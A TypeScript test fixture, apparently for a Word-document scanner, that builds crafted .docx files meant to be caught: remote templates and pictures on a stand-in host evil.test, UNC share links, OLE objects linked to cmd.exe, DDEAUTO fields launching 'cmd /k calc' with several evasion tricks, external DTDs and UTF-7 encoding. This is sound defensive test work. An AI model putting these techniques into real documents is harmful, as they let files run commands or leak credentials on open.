import type { Made } from './active-pdfs';
import { oleOf } from './documents';
import { WORDS, relation, related, paragraphs, char, instruction, field } from './office-parts';
import { docxOf } from './zips';

export const activeLetters: readonly Made[] = [
  [
    'a letter with an attribute that is there twice',
    'brief.docx',
    () =>
      docxOf(WORDS, {
        'word/_rels/a.rels': relation(
          'frame',
          'https://evil.test',
          'External" x:TargetMode="Internal',
        ),
      }),
  ],

  [
    'a letter with relationships in capitals',
    'brief.docx',
    () => related('attachedTemplate', 'https://evil.test/x.dotm', 'word/_rels/settings.xml.RELS'),
  ],
  [
    'a letter with a template on another host',
    'brief.docx',
    () => related('attachedTemplate', 'file://evil.test/x.dotm'),
  ],
  [
    'a letter with a template on a share',
    'brief.docx',
    () => related('attachedTemplate', 'file:////evil.test/x.dotm'),
  ],
  [
    'a letter with a template on a share of Windows',
    'brief.docx',
    () => related('attachedTemplate', '\\\\evil.test\\x.dotm'),
  ],
  [
    'a letter with a picture on a share',
    'brief.docx',
    () => related('image', 'file:\\\\evil.test\\x.png'),
  ],
  [
    'a letter with a linked program of its own disk',
    'brief.docx',
    () => related('oleObject', 'file:///C:/Windows/system32/cmd.exe'),
  ],
  [
    'a letter with a part that is read as another document',
    'brief.docx',
    () => docxOf(WORDS, { 'word/_rels/a.rels': relation('aFChunk', '/word/a.rtf', 'Internal') }),
  ],
  [
    'a letter with an object under another ending',
    'brief.docx',
    () => docxOf(WORDS, { 'word/media/image1.png': oleOf('\x01Ole10Native') }),
  ],
  [
    'a letter with an object without an ending',
    'brief.docx',
    () => docxOf(WORDS, { 'word/embeddings/a': oleOf('Package') }),
  ],
  [
    'a letter with an unknown object',
    'brief.docx',
    () => docxOf(WORDS, { 'word/embeddings/a.bin': oleOf('CONTENTS') }),
  ],
  [
    'a letter with an older document with macros',
    'brief.docx',
    () => docxOf(WORDS, { 'word/embeddings/a.doc': oleOf('WordDocument', 'Macros') }),
  ],
  [
    'a letter with an equation that holds a program',
    'brief.docx',
    () => docxOf(WORDS, { 'word/embeddings/a.bin': oleOf('Equation Native', '\x01Ole10Native') }),
  ],
  [
    'a letter with an object that is loaded by itself',
    'brief.docx',
    () => paragraphs('<o:OLEObject xmlns:o="o" Type="Link" UpdateMode="Always"/>'),
  ],
  [
    'a letter with macros in capitals',
    'brief.docx',
    () => docxOf(WORDS, { 'word/VBAPROJECT.BIN': 'x' }),
  ],
  [
    'a letter with a control in capitals',
    'brief.docx',
    () => docxOf(WORDS, { 'word/ACTIVEX/a.xml': '<a/>' }),
  ],
  [
    'a letter with DDEAUTO',
    'brief.docx',
    () => field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
  ],
  ['a letter with DDE', 'brief.docx', () => field(' DDE cmd "/k calc" ')],
  ['a letter with DDEAUTO in pieces', 'brief.docx', () => field(' DD', 'EAU', 'TO cmd ')],
  [
    'a letter with DDEAUTO in a field of a field',
    'brief.docx',
    () =>
      paragraphs(
        `${char('begin')}${instruction(' SET a ')}${char('begin')}${instruction(' DDEAUTO cmd ')}${char('end')}${char('end')}`,
      ),
  ],
  [
    'a letter with DDEAUTO around what only another program reads',
    'brief.docx',
    () =>
      paragraphs(
        `${char('begin')}${instruction('DDE')}<mc:Choice Requires="x">${instruction('x')}</mc:Choice>${instruction('AUTO cmd')}${char('end')}`,
      ),
  ],
  ['a letter with DDEAUTO without a space', 'brief.docx', () => field('DDEAUTO\\a cmd')],
  ['a letter with DDEAUTO in curled marks', 'brief.docx', () => field('DDEAUTO“cmd”')],
  [
    'a letter with a picture that a field in curled marks fetches',
    'brief.docx',
    () => field('INCLUDEPICTURE\\d “https://evil.test/a.png”'),
  ],
  [
    'a letter with DDEAUTO in a part behind 3,000 blanks',
    'brief.docx',
    () =>
      docxOf(WORDS, {
        'word/a': `${' '.repeat(3_000)}<w:p>${char('begin')}${instruction('DDEAUTO cmd')}${char('end')}</w:p>`,
      }),
  ],
  [
    'a letter with DDEAUTO that ends nowhere',
    'brief.docx',
    () => paragraphs(`${char('begin')}${instruction('DDEAUTO cmd')}`),
  ],
  [
    'a letter with DDEAUTO in a simple field',
    'brief.docx',
    () => paragraphs('<w:fldSimple w:instr="ddeauto cmd"/>'),
  ],
  [
    'a letter with a field that spells its name in codes',
    'brief.docx',
    () => field(' QUOTE 68 68 69 65 85 84 79 '),
  ],
  [
    'a letter with a picture that a field fetches',
    'brief.docx',
    () => field(' INCLUDEPICTURE "https://evil.test/a.png" \\d '),
  ],
  [
    'a letter with a text that a field fetches',
    'brief.docx',
    () => field(' INCLUDETEXT \\\\\\\\evil.test\\\\a.txt '),
  ],
  [
    'a letter with a document type in any part',
    'brief.docx',
    () =>
      docxOf(WORDS, { 'customXml/item1.xml': '<!DOCTYPE a SYSTEM "https://evil.test/a.dtd"><a/>' }),
  ],
  [
    'a letter with a document type in a part without an ending',
    'brief.docx',
    () => docxOf(WORDS, { 'word/a': ' <!DOCTYPE a [<!ENTITY b "c">]><a/>' }),
  ],
  [
    'a letter with a part in an alphabet that hides its markup',
    'brief.docx',
    () => docxOf(WORDS, { 'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
  ],
  [
    'a letter with relationships in UTF-16 with its mark',
    'brief.docx',
    () =>
      docxOf(WORDS, {
        'word/_rels/a.rels': Buffer.from(
          `\ufeff${relation('frame', 'https://evil.test')}`,
          'utf16le',
        ),
      }),
  ],
];
